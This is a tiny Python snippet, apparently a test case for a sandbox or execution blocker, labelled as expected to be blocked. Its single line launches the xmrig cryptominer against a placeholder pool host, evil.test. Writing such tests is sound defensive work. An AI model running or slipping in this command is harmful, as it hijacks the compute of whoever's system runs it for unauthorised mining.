# expect: BLOCKED
import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.evil.test:3333", "-u", "wallet"])
